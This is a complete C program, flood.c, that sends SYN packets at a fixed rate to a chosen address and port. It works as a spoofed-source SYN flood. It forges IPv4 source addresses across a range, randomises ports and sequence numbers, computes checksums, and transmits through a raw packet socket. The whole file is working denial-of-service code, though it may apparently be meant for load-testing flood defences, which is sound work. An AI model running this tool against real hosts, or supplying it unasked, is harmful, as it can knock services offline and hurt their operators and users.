/* SPDX-License-Identifier: MIT */
/*
 * flood.c - SYNs from very many who are not there, at a steady rate
 *
 *	flood INTERFACE MAC ADDRESS PORT FIRST_SOURCE SOURCES PER_S COUNT
 *
 * Sends COUNT SYNs to ADDRESS:PORT, whose next hop is MAC, PER_S a second,
 * from FIRST_SOURCE and the addresses after it, SOURCES in all, in turn. None
 * is ever repeated or answered: whatever comes back must be kept from this
 * host's kernel. Prints at the end
 *	sent N ms N
 */
#include <errno.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netpacket/packet.h>
#include <sys/socket.h>

#define BATCH	   64
#define PORT_FIRST 1024
#define PORTS	   64000
#define COUNT_MAX  10000000
#define TICK_NS	   1000000

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];
} __attribute__((packed));

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(2);
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

static uint32_t sum(const void *data, size_t len, uint32_t total)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		total += (uint32_t)p[i] << 8 | p[i + 1];
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return total;
}

/* The same sequence of numbers in every run (Knuth's multiplicative hash). */
static uint32_t scatter(uint32_t n)
{
	return n * 2654435761u;
}

static struct frame template(char *argv[])
{
	struct frame f = {0};
	struct ether_addr to;

	if (!ether_aton_r(argv[2], &to)) {
		errno = EINVAL;
		die(argv[2]);
	}
	memcpy(f.eth.ether_dhost, &to, ETH_ALEN);
	f.eth.ether_type = htons(ETHERTYPE_IP);
	f.ip.version = 4;
	f.ip.ihl = 5;
	f.ip.ttl = 64;
	f.ip.protocol = IPPROTO_TCP;
	f.ip.frag_off = htons(IP_DF);
	f.ip.tot_len = htons(sizeof(f) - sizeof(f.eth));
	f.ip.daddr = inet_addr(argv[3]);
	f.tcp.dest = htons((uint16_t)atoi(argv[4]));
	f.tcp.doff = (sizeof(f.tcp) + sizeof(f.mss)) / 4;
	f.tcp.syn = 1;
	f.tcp.window = htons(65535);
	memcpy(f.mss,
	       (const uint8_t[]){TCPOPT_MAXSEG, 4, 1460 >> 8, 1460 & 255},
	       sizeof(f.mss));
	return f;
}

static void forge(struct frame *f, uint32_t source, uint32_t n)
{
	const size_t tcp_len = sizeof(f->tcp) + sizeof(f->mss);
	uint8_t *raw = (uint8_t *)f;

	f->ip.saddr = htonl(source);
	f->tcp.source = htons((uint16_t)(PORT_FIRST + scatter(n) % PORTS));
	f->tcp.seq = htonl(scatter(n ^ 0x5a5a5a5a));
	f->ip.check = 0;
	f->ip.check = htons((uint16_t)~sum(&f->ip, sizeof(f->ip), 0));
	f->tcp.check = 0;
	f->tcp.check =
		htons((uint16_t)~sum(raw + offsetof(struct frame, tcp), tcp_len,
				     sum(raw + offsetof(struct frame, ip.saddr),
					 8, IPPROTO_TCP + (uint32_t)tcp_len)));
}

static void send_all(int fd, struct mmsghdr *messages, unsigned count)
{
	unsigned done = 0;

	while (done < count) {
		int n = sendmmsg(fd, messages + done, count - done, 0);

		if (n > 0)
			done += (unsigned)n;
		else if (errno != ENOBUFS && errno != EINTR)
			die("sendmmsg");
	}
}

int main(int argc, char *argv[])
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET};
	const struct timespec tick = {.tv_nsec = TICK_NS};
	struct mmsghdr messages[BATCH] = {0};
	struct frame frames[BATCH];
	struct iovec parts[BATCH];
	uint32_t first, sources, per_s, count, sent = 0;
	socklen_t at_len = sizeof(at);
	uint64_t begin;
	int fd;

	if (argc != 9) {
		fprintf(stderr, "usage: flood INTERFACE MAC ADDRESS PORT"
				" FIRST_SOURCE SOURCES PER_S COUNT\n");
		return 2;
	}
	first = ntohl(inet_addr(argv[5]));
	sources = (uint32_t)strtoul(argv[6], NULL, 10);
	per_s = (uint32_t)strtoul(argv[7], NULL, 10);
	count = (uint32_t)strtoul(argv[8], NULL, 10);
	if (!sources || !per_s || count > COUNT_MAX) {
		errno = EINVAL;
		die("SOURCES, PER_S or COUNT");
	}
	/* Protocol 0: it sends only, nothing is queued for it. */
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	at.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd == -1 || !at.sll_ifindex ||
	    bind(fd, (struct sockaddr *)&at, sizeof(at)) == -1 ||
	    getsockname(fd, (struct sockaddr *)&at, &at_len) == -1)
		die(argv[1]);

	for (unsigned i = 0; i < BATCH; i++) {
		frames[i] = template(argv);
		memcpy(frames[i].eth.ether_shost, at.sll_addr, ETH_ALEN);
		parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	begin = now_ns();
	while (sent < count) {
		uint64_t due = (now_ns() - begin) * per_s / 1000000000;
		unsigned n = 0;

		if (due > count)
			due = count;
		while (n < BATCH && sent + n < due) {
			forge(&frames[n], first + (sent + n) % sources,
			      sent + n);
			n++;
		}
		if (n == 0) {
			nanosleep(&tick, NULL);
			continue;
		}
		send_all(fd, messages, n);
		sent += n;
	}
	printf("sent %u ms %llu\n", sent,
	       (unsigned long long)((now_ns() - begin) / 1000000));
	return 0;
}
